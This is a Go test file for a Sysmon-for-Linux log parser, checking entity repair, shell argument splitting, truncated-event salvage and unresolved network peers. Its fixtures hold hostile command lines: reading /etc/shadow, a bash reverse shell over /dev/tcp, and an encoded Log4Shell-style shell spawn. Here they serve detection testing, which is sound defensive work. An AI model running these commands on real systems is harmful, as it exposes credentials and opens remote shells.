package sensor

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/parser/internal/event"
)

func TestRepairEntities(t *testing.T) {
	for _, c := range []struct {
		in, want string
		n        int
	}{
		{"&lt unknown process&gt ", "&lt;unknown process&gt;", 2},
		{"bash -c echo &quot hi&quot  | whoami", "bash -c echo &quot;hi&quot; | whoami", 2},
		{"&lt;ok&gt; &amp;", "&lt;ok&gt; &amp;", 0},
		{"a &amp", "a &amp;", 1},
		{"&ltx &#60; &unknown", "&ltx &#60; &unknown", 0}, // not a predefined entity: left to the parser
		{"no entity", "no entity", 0},
	} {
		got, n := repairEntities([]byte(c.in))
		if string(got) != c.want || n != c.n {
			t.Errorf("repairEntities(%q) = %q, %d; want %q, %d", c.in, got, n, c.want, c.n)
		}
	}
}

// TestSysmonArgs: a shell's command string is one argument again.
func TestSysmonArgs(t *testing.T) {
	cases := []struct{ image, in, want string }{
		{"/usr/bin/dash", "sh -c cat /etc/shadow 2>&1", `["sh" "-c" "cat /etc/shadow 2>&1"]`},
		{"/usr/bin/bash", "/bin/bash -lc bash -i >& /dev/tcp/127.0.0.1/4445 0>&1", `["/bin/bash" "-lc" "bash -i >& /dev/tcp/127.0.0.1/4445 0>&1"]`},
		{"/usr/bin/bash", "bash -c id", `["bash" "-c" "id"]`},
		{"/usr/bin/bash", "bash -i", `["bash" "-i"]`},
		{"/usr/bin/bash", "bash /tmp/x.sh -c y", `["bash" "/tmp/x.sh" "-c" "y"]`}, // a script's own -c
		{"/usr/bin/ps", "ps -ef --forest", `["ps" "-ef" "--forest"]`},
		{"/usr/bin/dash", "", `[]`},
	}
	for _, c := range cases {
		got := sysmonArgs(c.image, c.in)
		if got == nil {
			got = []string{}
		}
		if s := fmt.Sprintf("%q", got); s != c.want {
			t.Errorf("sysmonArgs(%s, %q) = %s, want %s", c.image, c.in, s, c.want)
		}
	}
}

// sysmonLine builds a Sysmon ProcessCreate or NetworkConnect event line.
func sysmonLine(id int, data ...string) string {
	s := fmt.Sprintf(`<Event><System><Provider Name="Linux-Sysmon"/><EventID>%d</EventID><Computer>web1</Computer></System><EventData><Data Name="UtcTime">2022-05-11 18:10:21.998</Data>`, id)
	for i := 0; i+1 < len(data); i += 2 {
		s += fmt.Sprintf(`<Data Name="%s">%s</Data>`, data[i], data[i+1])
	}
	return s + "</EventData></Event>"
}

// TestSysmonTruncated: syslog forwarders cut a message at their size limit
// (2 KiB on the public Log4Shell capture, inside the java parent's long
// ParentCommandLine). The fields before the cut are the event's own and
// must not be lost: without them the shell's process-create vanished and
// its children's ParentCommandLine ("bash") stood for it, with no parent.
func TestSysmonTruncated(t *testing.T) {
	full := sysmonLine(1, "ProcessId", "17790", "Image", "/bin/bash",
		"CommandLine", "bash -c {echo,YmFzaA==}|{base64,-d}|{bash,-i}", "User", "tomcat",
		"ParentProcessId", "1340", "ParentImage", "/usr/lib/jvm/java/bin/java",
		"ParentCommandLine", "/usr/lib/jvm/java/bin/java -Dcatalina.base=/opt/tomcat -Dcatalina.home=/opt/tomcat")
	cut := full[:strings.Index(full, "-Dcatalina.home")]
	if !SniffSysmon([]byte(cut)) {
		t.Fatalf("a Sysmon event cut short is not recognised")
	}
	d := NewSysmon()
	out, err := d.Line(event.Pos{File: "x", Line: 8}, []byte(cut), nil)
	if err == nil || !errors.Is(err, event.ErrRepaired) {
		t.Errorf("err = %v, want a repaired note saying the event was cut", err)
	}
	var self *event.Event
	for _, ev := range out {
		if ev.PID == 17790 {
			self = ev
		}
	}
	if self == nil {
		t.Fatalf("no event for pid 17790 in %d events", len(out))
	}
	if self.PPID != 1340 || len(self.Args) != 3 || self.Args[2] != "{echo,YmFzaA==}|{base64,-d}|{bash,-i}" || self.User != "tomcat" {
		t.Errorf("event = ppid %d args %q user %q; want its own fields", self.PPID, self.Args, self.User)
	}
	// No </EventData> at all, or a cut inside the System part: nothing to salvage.
	for _, bad := range []string{full[:strings.Index(full, "<EventData>")+5], full[:40]} {
		if out, err := NewSysmon().Line(event.Pos{File: "x", Line: 9}, []byte(bad), nil); err == nil || len(out) != 0 {
			t.Errorf("Line(%q) = %d events, %v; want an error and no event", bad, len(out), err)
		}
	}
}

// TestSysmonZeroPeer: Sysmon for Linux reports a socket it could not
// resolve as 0:0:0:0:0:0:0:0 port 0; that is no peer, and must not stand
// for the reverse shell's real destination.
func TestSysmonZeroPeer(t *testing.T) {
	for _, c := range []struct {
		ip   string
		port string
		want string
	}{
		{"0:0:0:0:0:0:0:0", "0", ""},
		{"0.0.0.0", "0", ""},
		{"::", "443", ""},
		{"192.168.2.6", "443", "192.168.2.6:443"},
	} {
		line := sysmonLine(3, "ProcessId", "17806", "Image", "/bin/bash", "Initiated", "true",
			"SourceIp", "192.168.2.5", "SourcePort", "39634", "DestinationIp", c.ip, "DestinationPort", c.port)
		out, err := NewSysmon().Line(event.Pos{File: "x", Line: 1}, []byte(line), nil)
		if err != nil || len(out) != 1 {
			t.Fatalf("%s: %v, %d events", c.ip, err, len(out))
		}
		zero := out[0].Peer == (event.Addr{})
		if got := out[0].Peer.String(); (c.want == "") != zero || c.want != "" && got != c.want {
			t.Errorf("peer of %s:%s = %q (zero %v), want %q", c.ip, c.port, got, zero, c.want)
		}
	}
}
